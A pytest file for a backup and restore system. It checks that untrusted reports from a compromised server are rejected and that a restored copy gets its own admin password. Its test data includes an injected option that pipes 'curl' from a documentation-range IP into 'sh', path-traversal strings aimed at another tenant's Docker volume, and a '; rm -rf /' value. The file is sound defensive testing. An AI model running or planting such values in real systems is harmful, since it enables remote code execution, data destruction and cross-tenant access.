"""What a server reports after a backup is untrusted: a compromised server's report fails the job, is not
kept, and never reaches a command line or a path on another server (restore into a copy, move, drill).

The playbook runs are scripted here (the runner adapter is replaced); the playbooks' own handling of
the same values on a real server is in tests/playbooks/test_backup_playbooks.py. Also here: a copy's
admin password made its own after the restore (the real chain: tests/e2e/test_backups_wordpress.py).
"""

from __future__ import annotations

import json
import secrets
from pathlib import Path

import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session

from provisioner.backups import steps
from provisioner.backups.repository import repository_for
from provisioner.backups.service import request_restore
from provisioner.config import Settings
from provisioner.crypto import decrypt
from provisioner.db import transaction
from provisioner.engine.execute import run_claimed
from provisioner.engine.sink import DatabaseSink
from provisioner.instances.credentials import store_secrets
from provisioner.jobs.service import create_job
from provisioner.jobs.states import JobKind
from provisioner.models import Alert, Backup, Instance, Job
from provisioner.runner.scripted import ScriptedRun, ScriptedRunner, fails, succeeds
from provisioner.runner.spec import RunnerEvent, RunOutcome, RunSpec
from provisioner.timeutil import utcnow
from tests.support import factories
from tests.support.engine import scripted_context
from tests.support.running import running_blog, unused_backup_target

HOSTILE_ID = "--password-command=sh -c 'curl 192.0.2.66 | sh'"  # fits the column: 64 characters
HOSTILE_PATHS = {"db": "/../../var/lib/docker/volumes/prv-victim-db/_data", "content": "/.."}


def _report(snapshot_id: object, **summary: object) -> dict[str, object]:
    counts = {"total_bytes_processed": 1000, "data_added": 10, "snapshot_id": "1a2b3c4d"} | summary
    # Also what the playbook reported before paths were derived: a server may still print them.
    return {"snapshot_id": snapshot_id, "summary": counts, "paths": HOSTILE_PATHS}


def _scripted(report: object, failing: frozenset[str] = frozenset()) -> ScriptedRunner:
    """Answers each playbook as a (compromised) server would: the backup reports ``report``; the
    playbooks in ``failing`` fail."""

    def answer(spec: RunSpec) -> ScriptedRun:
        if spec.playbook in failing:
            return fails(f"{spec.playbook} failed")
        if spec.playbook != "backup.yml":
            return succeeds()
        shown = "ok: [server] => " + json.dumps({"msg": report})
        event = RunnerEvent(1, utcnow(), "s1", steps.REPORT_TASK, "ok", "ok: Report the backup", shown)
        return ScriptedRun(RunOutcome(status="successful", rc=0, error=None), events=(event,))

    return ScriptedRunner(answer=answer)


@pytest.fixture
def settings(db_url: str, tmp_path: Path) -> Settings:
    key = tmp_path / "id_ed25519"
    key.write_text("not a real key: no run leaves this machine\n")
    return Settings(data_dir=tmp_path, database_url=db_url, ssh_key_path=key)


def _execute(settings: Settings, runs: ScriptedRunner, job_id: str) -> None:
    sink = DatabaseSink(settings.resolved_database_url, job_id)
    run_claimed(scripted_context(settings, runs), job_id, sink)


def _backup_job(settings: Settings) -> tuple[str, str]:
    with transaction(settings.resolved_database_url) as session:
        unused_backup_target(session, settings)
        blog = running_blog(session, factories.tenant(session), factories.server(session))
        job = create_job(session, instance=blog, kind=JobKind.BACKUP)
        job.status = "running"
        return blog.id, job.id


@pytest.mark.parametrize(
    "report",
    [
        _report(HOSTILE_ID),
        _report("1a2b3c4d"),  # a short id: another server's restic could resolve it to anything
        _report("A" * 64),
        _report(secrets.token_hex(32) + "\n"),
        _report(secrets.token_hex(32), total_bytes_processed="1000; rm -rf /"),
        _report(secrets.token_hex(32), data_added=True),
        _report(secrets.token_hex(32), data_added=-1),
        {"snapshot_id": secrets.token_hex(32)},
        ["not", "a", "report"],
        # Only an optional volume may be left out, and only by its name.
        _report(secrets.token_hex(32)) | {"missing": ["db"]},
        _report(secrets.token_hex(32)) | {"missing": "wxr"},
    ],
    ids=[
        "option",
        "short",
        "upper",
        "newline",
        "size-text",
        "size-bool",
        "size-negative",
        "no-summary",
        "list",
        "left-out-required",
        "left-out-not-a-list",
    ],
)
def test_a_report_of_the_wrong_shape_fails_the_backup_loudly_and_nothing_of_it_is_kept(
    settings: Settings, report: dict[str, object]
) -> None:
    runs = _scripted(report)
    blog_id, job_id = _backup_job(settings)
    _execute(settings, runs, job_id)
    with transaction(settings.resolved_database_url) as session:
        job = session.get_one(Job, job_id)
        assert job.status == "failed"
        assert job.error is not None
        assert job.error.startswith("the backup failed: the server's report was refused (")
        assert "nothing of it was kept" in job.error
        assert HOSTILE_ID not in job.error
        backup = session.scalars(select(Backup)).one()
        assert (backup.status, backup.snapshot_id, backup.paths) == ("failed", None, {})
        assert (backup.size_bytes, backup.added_bytes) == (None, None)
        assert session.get_one(Instance, blog_id).state == "running"
        alert = session.scalars(select(Alert)).one()
        assert (alert.kind, alert.status) == ("backup_failed", "open")


def test_a_good_report_keeps_the_full_id_and_paths_derived_from_our_names(settings: Settings) -> None:
    snapshot_id = secrets.token_hex(32)
    runs = _scripted(_report(snapshot_id))
    blog_id, job_id = _backup_job(settings)
    _execute(settings, runs, job_id)
    with transaction(settings.resolved_database_url) as session:
        assert session.get_one(Job, job_id).status == "succeeded"
        backup = session.scalars(select(Backup)).one()
        assert (backup.status, backup.snapshot_id) == ("succeeded", snapshot_id)
        assert (backup.size_bytes, backup.added_bytes) == (1000, 10)
        # The reported paths are ignored: each volume lies where restic was told to put it.
        assert backup.paths == {
            "db": f"/prv-{blog_id}-db/_data",
            "content": f"/prv-{blog_id}-content/_data",
            "wxr": f"/prv-{blog_id}-wxr/_data",
        }


def test_a_site_deployed_before_its_wxr_volume_is_backed_up_without_it(settings: Settings) -> None:
    runs = _scripted(_report(secrets.token_hex(32)) | {"missing": ["wxr"]})
    blog_id, job_id = _backup_job(settings)
    _execute(settings, runs, job_id)
    with transaction(settings.resolved_database_url) as session:
        assert session.get_one(Job, job_id).status == "succeeded"
        backup = session.scalars(select(Backup)).one()
        # No place is recorded for it: its export says that part is missing.
        assert backup.paths == {"db": f"/prv-{blog_id}-db/_data", "content": f"/prv-{blog_id}-content/_data"}
    [spec] = [s for s in runs.ran if s.playbook == "backup.yml"]
    assert [v["name"] for v in spec.variables["volumes"] if v["optional"]] == ["wxr"]
    assert [s["needs"] for s in spec.variables["before_steps"]] == [None, f"prv-{blog_id}-wxr"]


def _stored_backup(settings: Settings, **values: object) -> tuple[str, str]:
    """A backup row as an earlier version (which kept what the server printed) may have stored it."""
    with transaction(settings.resolved_database_url) as session:
        unused_backup_target(session, settings)
        owner = factories.tenant(session)
        blog = running_blog(session, owner, factories.server(session))
        store_secrets(settings, blog, factories.CATALOG.get("wordpress"))  # the copy takes them over
        repository = repository_for(session, settings, tenant_id=owner.id)
        good = {"db": f"/prv-{blog.id}-db/_data", "content": f"/prv-{blog.id}-content/_data"}
        backup = Backup(
            instance_id=blog.id,
            repository_id=repository.id,
            status="succeeded",
            version=blog.version,
            **({"snapshot_id": secrets.token_hex(32), "paths": good} | values),
        )
        session.add(backup)
        session.flush()
        return blog.id, backup.id


def _restore_into_a_copy(settings: Settings, blog_id: str, backup_id: str) -> str:
    with transaction(settings.resolved_database_url) as session:
        job = request_restore(
            session, actor=factories.OPERATOR, catalog=factories.CATALOG, instance_id=blog_id,
            backup_id=backup_id, into="new", name="copy", settings=settings,
        ).job  # fmt: skip
        assert job is not None  # an operator's copy starts at once
        job.status = "running"
        return job.id


@pytest.mark.parametrize(
    "stored",
    [
        {"snapshot_id": HOSTILE_ID},
        {"paths": HOSTILE_PATHS},
        {"paths": {"db": "/var/lib/docker/volumes/prv-victim-db/_data", "content": "/x"}},
    ],
    ids=["snapshot-option", "dot-dot", "another-instance"],
)
def test_a_stored_report_of_the_wrong_shape_never_reaches_another_server(
    settings: Settings, stored: dict[str, object]
) -> None:
    runs = _scripted({})
    blog_id, backup_id = _stored_backup(settings, **stored)
    job_id = _restore_into_a_copy(settings, blog_id, backup_id)
    _execute(settings, runs, job_id)
    with transaction(settings.resolved_database_url) as session:
        job = session.get_one(Job, job_id)
        assert job.status == "failed"
        assert job.error is not None
        assert job.error.startswith(f"the backup {backup_id} cannot be restored: the recorded")
    # The copy was deployed; nothing of the backup ran anywhere.
    assert [spec.playbook for spec in runs.ran] == ["deploy.yml"]


@pytest.mark.parametrize("recorded_before", [False, True], ids=["derived", "recorded-before"])
def test_a_restore_into_a_copy_gets_a_checked_snapshot_id_and_paths_from_our_names(
    settings: Settings, recorded_before: bool
) -> None:
    runs = _scripted({})
    blog_id, backup_id = _stored_backup(settings)
    # Recorded before paths were derived: restic 0.14's short id, absolute paths in Debian's Docker folder.
    root = "/var/lib/docker/volumes" if recorded_before else ""
    with transaction(settings.resolved_database_url) as session:
        row = session.get_one(Backup, backup_id)
        if recorded_before:
            row.snapshot_id = "1a2b3c4d"
            row.paths = {name: f"{root}/prv-{blog_id}-{name}/_data" for name in ("db", "content")}
        snapshot_id = row.snapshot_id
    job_id = _restore_into_a_copy(settings, blog_id, backup_id)
    _execute(settings, runs, job_id)
    with transaction(settings.resolved_database_url) as session:
        assert session.get_one(Job, job_id).status == "succeeded"
        copy_id = session.get_one(Job, job_id).instance_id
    restore = next(spec for spec in runs.ran if spec.playbook == "restore.yml")
    assert restore.variables["snapshot"] == snapshot_id
    assert {v["name"]: (v["docker"], v["in_snapshot"]) for v in restore.variables["volumes"]} == {
        name: (f"prv-{copy_id}-{name}", f"{root}/prv-{blog_id}-{name}/_data") for name in ("db", "content")
    }


def _shown(session: Session, settings: Settings, instance_id: str) -> str:
    row = session.get_one(Instance, instance_id)
    return next(decrypt(settings, s.encrypted) for s in row.secrets if s.shown)


def _copy_restored(settings: Settings, *, failing: frozenset[str]) -> tuple[ScriptedRunner, str, str]:
    """An operator's copy of a WordPress restored by the worker: the runs, the original, the job."""
    runs = _scripted({}, failing)
    blog_id, backup_id = _stored_backup(settings)
    job_id = _restore_into_a_copy(settings, blog_id, backup_id)
    _execute(settings, runs, job_id)
    return runs, blog_id, job_id


def test_a_copy_gets_an_admin_password_of_its_own_made_valid_after_the_restore(settings: Settings) -> None:
    runs, blog_id, job_id = _copy_restored(settings, failing=frozenset())
    with transaction(settings.resolved_database_url) as session:
        job = session.get_one(Job, job_id)
        assert (job.status, job.instance.state) == ("succeeded", "running")
        copy_id = job.instance_id
        original, own = _shown(session, settings, blog_id), _shown(session, settings, copy_id)
    assert own != original
    deploy, restore, reset = runs.ran
    assert (deploy.playbook, restore.playbook, reset.playbook) == ("deploy.yml", "restore.yml", "hooks.yml")
    # The copy's deploy placed its own password; the restored data's one is made invalid by the steps
    # a credentials reset runs, after the data is back.
    assert own in deploy.files["admin/admin.php"]
    assert original not in deploy.files["admin/admin.php"]
    web = f"prv-{copy_id}-web"
    assert reset.variables["steps"] == [
        {"container": web, "argv": ["php", "/etc/provisioner/admin.php", "install"]},
        {"container": web, "argv": ["php", "/etc/provisioner/admin.php", "reset"]},
    ]


def test_a_copy_whose_password_cannot_be_set_fails_saying_its_data_is_back(settings: Settings) -> None:
    _, _, job_id = _copy_restored(settings, failing=frozenset({"hooks.yml"}))
    with transaction(settings.resolved_database_url) as session:
        job = session.get_one(Job, job_id)
        assert (job.status, job.instance.state) == ("failed", "failed")
        assert job.error == "the backup was restored, but the copy's own admin password could not be set"
